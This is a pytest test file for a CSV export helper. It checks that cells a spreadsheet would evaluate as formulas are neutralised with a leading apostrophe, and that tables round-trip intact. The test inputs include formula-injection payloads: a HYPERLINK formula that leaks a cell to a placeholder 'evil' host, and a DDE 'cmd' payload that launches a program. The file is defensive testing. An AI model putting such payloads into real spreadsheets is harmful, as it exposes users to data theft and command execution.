"""CSV for spreadsheets: opened right, and nothing in it is reckoned."""

from __future__ import annotations

import csv
import io

import pytest

from archive.text.spreadsheets import csv_lines, safe_cell


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", " =1"],
)
def test_what_a_spreadsheet_would_reckon_is_text(cell):
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["三号海堤昨日合龙", "2021-06-18", "a=b", "", "「=」", " "])
def test_other_words_stay_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_numbers_stay_numbers_and_nothing_is_empty():
    assert [safe_cell(value) for value in (-3, 0.5, None)] == [-3, 0.5, ""]


def test_a_table_is_read_back_as_it_was():
    rows = [["文件", "备注"], ['引号"、逗号,', "两\n行"], [None, 7]]
    text = "".join(csv_lines(rows))
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [["文件", "备注"], ['引号"、逗号,', "两\n行"], ["", "7"]]
    assert text.count("\r\n") == 3


def test_lines_come_one_by_one():
    endless = (["x"] for _ in iter(int, 1))
    lines = csv_lines(endless)
    assert [next(lines) for _ in range(3)] == ["\ufeff", "x\r\n", "x\r\n"]
